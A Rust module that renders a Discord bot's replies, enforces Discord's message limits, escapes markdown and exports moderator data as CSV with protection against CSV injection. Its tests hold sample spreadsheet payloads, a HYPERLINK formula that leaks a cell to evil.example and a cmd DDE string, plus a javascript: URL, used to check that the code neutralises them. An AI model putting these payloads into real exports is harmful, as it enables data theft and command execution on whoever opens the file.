//! Turning a [`Reply`](super::reply::Reply) into what a transport shows: a Discord message
//! ([`embed`]), text for the console and the command line ([`text`]), or the JSON of
//! `--json` ([`json`]). Discord's limits are enforced here, in one place.

pub mod chart;
pub mod embed;
pub mod json;
pub mod text;

use crate::corpus::Date;

/// Discord's limits on a message (discord-api-docs, "Embed Limits" and "Message").
pub mod limits {
    pub const CONTENT: usize = 2000;
    pub const EMBED_TITLE: usize = 256;
    pub const EMBED_DESCRIPTION: usize = 4096;
    pub const FIELDS: usize = 25;
    pub const FIELD_NAME: usize = 256;
    pub const FIELD_VALUE: usize = 1024;
    pub const FOOTER: usize = 2048;
    pub const EMBEDS_TOTAL: usize = 6000;
    pub const BUTTON_LABEL: usize = 80;
    pub const AUTOCOMPLETE_CHOICES: usize = 25;
    pub const CHOICE_NAME: usize = 100;
}

/// A message as Discord shows it, before it becomes serenity's builders.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Message {
    pub content: Option<String>,
    pub embeds: Vec<Embed>,
    pub buttons: Vec<Button>,
    pub ephemeral: bool,
    /// A form to fill in (Discord's modal), shown instead of a message.
    pub form: Option<Form>,
    /// Files attached to the message.
    pub files: Vec<File>,
    /// Link buttons after the others: (label, URL).
    pub links: Vec<(String, String)>,
}

/// A file attached to a message.
#[derive(Clone, PartialEq, Eq)]
pub struct File {
    pub name: String,
    pub bytes: Vec<u8>,
}

impl std::fmt::Debug for File {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "File({:?}, {} bytes)", self.name, self.bytes.len())
    }
}

/// A one-field form: Discord shows it as a modal and sends back what was typed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Form {
    pub custom_id: String,
    pub title: String,
    pub label: String,
    pub placeholder: String,
    pub max_length: usize,
    /// Whether the field must be filled in to send the form.
    pub required: bool,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Embed {
    pub title: Option<String>,
    pub description: Option<String>,
    pub fields: Vec<Field>,
    pub footer: Option<String>,
    pub color: u32,
    /// The picture shown in the embed: an `attachment://` URL of one of the message's files.
    pub image: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Field {
    pub name: String,
    pub value: String,
    pub inline: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Button {
    pub label: String,
    pub custom_id: String,
    pub disabled: bool,
}

impl Embed {
    /// Characters Discord counts towards the 6000 of a message's embeds.
    pub fn chars(&self) -> usize {
        let len = |s: &Option<String>| s.as_ref().map_or(0, |s| s.chars().count());
        len(&self.title)
            + len(&self.description)
            + len(&self.footer)
            + self
                .fields
                .iter()
                .map(|f| f.name.chars().count() + f.value.chars().count())
                .sum::<usize>()
    }
}

impl Message {
    /// Cuts every part to Discord's limits: each piece at a sentence or word boundary with
    /// "…", then fields from the end, then the description, until the total fits.
    pub fn fit(mut self) -> Message {
        use limits::*;
        self.content = self.content.map(|c| fit(&c, CONTENT));
        self.embeds.truncate(10);
        for embed in &mut self.embeds {
            embed.title = embed.title.take().map(|t| fit(&t, EMBED_TITLE));
            embed.description = embed.description.take().map(|d| fit(&d, EMBED_DESCRIPTION));
            embed.footer = embed.footer.take().map(|f| fit(&f, FOOTER));
            embed.fields.truncate(FIELDS);
            for field in &mut embed.fields {
                field.name = fit(&field.name, FIELD_NAME);
                field.value = fit(&field.value, FIELD_VALUE);
            }
        }
        let total = |m: &Message| m.embeds.iter().map(Embed::chars).sum::<usize>();
        while total(&self) > EMBEDS_TOTAL {
            let excess = total(&self) - EMBEDS_TOTAL;
            let Some(embed) = self.embeds.iter_mut().rev().find(|e| e.chars() > 0) else {
                break;
            };
            if let Some(description) = embed
                .description
                .as_mut()
                .filter(|d| d.chars().count() > excess + 200)
            {
                *description = fit(description, description.chars().count() - excess);
            } else if embed.fields.pop().is_none() {
                embed.description = None;
                embed.title = embed.title.take().map(|t| fit(&t, 64));
                embed.footer = None;
            }
        }
        for button in &mut self.buttons {
            button.label = fit(&button.label, BUTTON_LABEL);
        }
        self
    }
}

/// Dates as people read them, at their precision: "15 June 2015", "June 2014", "1988–2001".
pub fn human_dates(dates: &[Date]) -> String {
    dates
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(", ")
}

/// "Results 3–4 of 12" for a page of `shown` items starting at `offset`; "0 results" when empty.
pub fn page_range(noun: &str, offset: usize, shown: usize, total: usize) -> String {
    if shown == 0 {
        format!("0 {}", noun.to_lowercase())
    } else {
        format!("{noun} {}–{} of {total}", offset + 1, offset + shown)
    }
}

/// `text` cut to at most `max` characters: at the last sentence end in the second half if
/// there is one, else at the last space, with "…" appended.
pub fn fit(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_string();
    }
    if max == 0 {
        return String::new();
    }
    let keep: String = text.chars().take(max - 1).collect();
    let half = keep.len() / 2;
    let sentence_end = keep
        .match_indices(['.', '!', '?'])
        .map(|(i, _)| i + 1)
        .rfind(|&i| i >= half && keep[i..].starts_with(char::is_whitespace));
    let cut = sentence_end
        .or_else(|| keep.rfind(char::is_whitespace).filter(|&i| i >= half))
        .unwrap_or(keep.len());
    format!("{}…", keep[..cut].trim_end())
}

/// Article or user text made inert in Discord markdown: formatting characters escaped and
/// mentions broken (with `allowed_mentions` empty as well, nobody is pinged either way).
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\\' | '*' | '_' | '~' | '`' | '|' | '>' | '<' | '[' | ']' | '#' | ':' => {
                out.push('\\');
                out.push(c);
            }
            '@' => out.push_str("@\u{200b}"),
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// A Unix time as `2026-11-28 15:30 UTC`, for the console (Discord renders `<t:…>` itself).
/// Civil-from-days after Howard Hinnant's algorithm: a few lines instead of a date crate.
pub fn utc(secs: u64) -> String {
    let days = (secs / 86_400) as i64;
    let (hour, minute) = ((secs % 86_400) / 3600, (secs % 3600) / 60);
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!("{year:04}-{month:02}-{day:02} {hour:02}:{minute:02} UTC")
}

/// The longest link Discord takes in a button.
pub const LINK_MAX: usize = 512;

/// A link to `url` that scrolls a browser to `sentence`: a text fragment
/// (`#:~:text=start,end`, every character but letters and digits percent-encoded), the whole
/// sentence when it fits in [`LINK_MAX`], else its first and last words. `None` for a URL that
/// is not `http(s)://`, holds spaces or parentheses, or is too long to link.
pub fn passage_link(url: &str, sentence: &str) -> Option<String> {
    use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
    let base = url.split('#').next().unwrap_or(url);
    let web = base.starts_with("https://") || base.starts_with("http://");
    if !web || base.len() > LINK_MAX || base.contains([' ', '(', ')', '<', '>']) {
        return None;
    }
    let words: Vec<&str> = sentence.split_whitespace().collect();
    let encode =
        |words: &[&str]| utf8_percent_encode(&words.join(" "), NON_ALPHANUMERIC).to_string();
    for n in [words.len(), 8, 5, 3, 1] {
        if words.is_empty() {
            break;
        }
        let fragment = if words.len() <= 2 * n {
            encode(&words)
        } else {
            format!(
                "{},{}",
                encode(&words[..n]),
                encode(&words[words.len() - n..])
            )
        };
        let link = format!("{base}#:~:text={fragment}");
        if link.len() <= LINK_MAX {
            return Some(link);
        }
    }
    Some(base.to_string())
}

/// The largest CSV file made: under Discord's 10 MiB attachment limit, with room for the
/// message around it.
pub const CSV_MAX_BYTES: usize = 8 * 1024 * 1024;

/// The most characters of one CSV cell; longer text is cut with "…".
const CSV_CELL_MAX: usize = 2_000;

/// Gaps as CSV, with a header: what a moderator opens in a spreadsheet. Reasons are joined with
/// " | "; times are UTC in RFC 3339. Rows stop before the file would pass [`CSV_MAX_BYTES`]:
/// the bytes and how many gaps they hold.
pub fn gaps_csv(gaps: &[crate::store::Gap]) -> (Vec<u8>, usize) {
    let header = [
        "question",
        "count",
        "unanswered",
        "unsure",
        "down_votes",
        "reasons",
        "last_asked",
    ];
    let mut out = csv_row(header.map(String::from));
    let mut rows = 0;
    for gap in gaps {
        let row = csv_row([
            gap.question.clone(),
            gap.count.to_string(),
            gap.abstained.to_string(),
            gap.unsure.to_string(),
            gap.down_votes.to_string(),
            gap.reasons.join(" | "),
            serenity::all::Timestamp::from_unix_timestamp(gap.last_asked)
                .ok()
                .and_then(|t| t.to_rfc3339())
                .unwrap_or_default(),
        ]);
        if out.len() + row.len() > CSV_MAX_BYTES {
            break;
        }
        out.extend(row);
        rows += 1;
    }
    (out, rows)
}

/// One CSV record of user text made safe for a spreadsheet: a cell that begins with `=`, `+`,
/// `-` or `@` is read as a formula, so it starts with `'` instead (OWASP's rule for CSV
/// injection; tabs and carriage returns, its other two, become spaces with every control
/// character); long cells are cut.
fn csv_row<const N: usize>(cells: [String; N]) -> Vec<u8> {
    let mut out = csv::Writer::from_writer(Vec::new());
    let cells = cells.map(|cell| {
        let mut cell: String = cell
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .collect();
        if cell.chars().count() > CSV_CELL_MAX {
            cell = cell.chars().take(CSV_CELL_MAX - 1).collect::<String>() + "…";
        }
        if cell.starts_with(['=', '+', '-', '@']) {
            cell.insert(0, '\'');
        }
        cell
    });
    // Writing to a Vec cannot fail.
    let _ = out.write_record(&cells);
    out.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    #[test]
    fn unix_times_read_as_utc() {
        assert_eq!(super::utc(0), "1970-01-01 00:00 UTC");
        assert_eq!(super::utc(951_782_400), "2000-02-29 00:00 UTC");
        assert_eq!(super::utc(1_795_841_451), "2026-11-28 04:50 UTC");
    }

    use super::*;

    fn gap(question: &str, reasons: &[&str]) -> crate::store::Gap {
        crate::store::Gap {
            question: question.into(),
            count: 1,
            abstained: 0,
            unsure: 0,
            down_votes: u32::try_from(reasons.len()).unwrap_or(0),
            reasons: reasons.iter().map(|r| r.to_string()).collect(),
            last_asked: 1_795_841_451,
        }
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
        let gaps = [
            gap(
                "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")",
                &["+cmd|' /C calc'!A0", "fine"],
            ),
            gap("@SUM(1+1)*cmd", &["-2+3"]),
            gap("\t=1+1\r\nnext", &[]),
            gap("When did Russia lift its arms embargo?", &[]),
        ];
        let (bytes, rows) = gaps_csv(&gaps);
        assert_eq!(rows, 4);
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(
            &records[0][0],
            "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")"
        );
        assert_eq!(&records[0][5], "'+cmd|' /C calc'!A0 | fine");
        assert_eq!(
            (&records[1][0], &records[1][5]),
            ("'@SUM(1+1)*cmd", "'-2+3")
        );
        assert_eq!(&records[2][0], " =1+1  next");
        assert_eq!(&records[3][0], "When did Russia lift its arms embargo?");
        for record in &records {
            for cell in record {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
    }

    #[test]
    fn the_csv_stops_under_discords_attachment_limit() {
        let reason = "x".repeat(190);
        let reasons: Vec<&str> = std::iter::repeat_n(reason.as_str(), 20).collect();
        let gaps: Vec<crate::store::Gap> = (0..5_000)
            .map(|i| gap(&format!("question {i}"), &reasons))
            .collect();
        let (bytes, rows) = gaps_csv(&gaps);
        assert!(bytes.len() <= CSV_MAX_BYTES && CSV_MAX_BYTES < 10 * 1024 * 1024);
        assert!(rows < gaps.len() && rows > 0, "{rows}");
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let first = reader.records().next().unwrap().unwrap();
        assert_eq!(first[5].chars().count(), CSV_CELL_MAX, "a long cell is cut");
        assert!(first[5].ends_with('…'));
    }

    #[test]
    fn long_text_is_cut_at_a_sentence_with_an_ellipsis() {
        let text = "First sentence here. Second sentence is longer than that. Third one.";
        assert_eq!(fit(text, 100), text);
        assert_eq!(
            fit(text, 60),
            "First sentence here. Second sentence is longer than that.…"
        );
        assert_eq!(fit(text, 30), "First sentence here.…");
        let words = "word ".repeat(50);
        let cut = fit(&words, 23);
        assert!(cut.chars().count() <= 23 && cut.ends_with("word…"), "{cut}");
        let unbroken = "x".repeat(50);
        assert_eq!(fit(&unbroken, 10).chars().count(), 10);
        assert_eq!(fit("ééééé", 3), "éé…");
    }

    #[test]
    fn a_passage_link_scrolls_to_its_sentence_within_discords_limit() {
        let sentence = "In June 2014, Russia lifts arms embargo to Pakistan.";
        let link = passage_link("https://example.org/article#top", sentence).unwrap();
        assert_eq!(
            link,
            "https://example.org/article#:~:text=In%20June%202014%2C%20Russia%20lifts%20arms%20embargo%20to%20Pakistan%2E"
        );
        let long = "word-with-dash, and comma & more ".repeat(40);
        let link = passage_link("https://example.org/a", &long).unwrap();
        assert!(link.len() <= LINK_MAX, "{}", link.len());
        let fragment = link.split("#:~:text=").nth(1).unwrap();
        let (start, end) = fragment.split_once(',').unwrap();
        assert!(
            start.starts_with("word%2Dwith%2Ddash%2C") && !end.contains(','),
            "{link}"
        );
        assert!(!fragment.contains('-') && !fragment.contains('&'), "{link}");
        assert_eq!(passage_link("javascript:alert(1)", sentence), None);
        assert_eq!(passage_link("https://example.org/a b", sentence), None);
        let huge = format!("https://example.org/{}", "x".repeat(600));
        assert_eq!(passage_link(&huge, sentence), None);
    }

    #[test]
    fn markdown_and_mentions_in_text_are_inert() {
        assert_eq!(
            escape("**bold** @everyone <@123>"),
            "\\*\\*bold\\*\\* @\u{200b}everyone \\<@\u{200b}123\\>"
        );
        assert_eq!(escape("[link](http://x)"), "\\[link\\](http\\://x)");
    }

    #[test]
    fn a_message_over_every_limit_is_brought_within_them() {
        let huge = "A sentence of the article. ".repeat(1000);
        let message = Message {
            content: Some(huge.clone()),
            embeds: vec![Embed {
                title: Some(huge.clone()),
                description: Some(huge.clone()),
                fields: (0..40)
                    .map(|i| Field {
                        name: format!("{i} {huge}"),
                        value: huge.clone(),
                        inline: false,
                    })
                    .collect(),
                footer: Some(huge.clone()),
                color: 0,
                image: None,
            }],
            buttons: vec![Button {
                label: huge.clone(),
                custom_id: "x".into(),
                disabled: false,
            }],
            ephemeral: false,
            form: None,
            files: Vec::new(),
            links: Vec::new(),
        }
        .fit();
        assert!(message.content.as_ref().unwrap().chars().count() <= limits::CONTENT);
        let embed = &message.embeds[0];
        assert!(embed.fields.len() <= limits::FIELDS);
        assert!(embed.chars() <= limits::EMBEDS_TOTAL, "{}", embed.chars());
        assert!(embed.title.as_ref().unwrap().chars().count() <= limits::EMBED_TITLE);
        assert!(message.buttons[0].label.chars().count() <= limits::BUTTON_LABEL);
    }
}
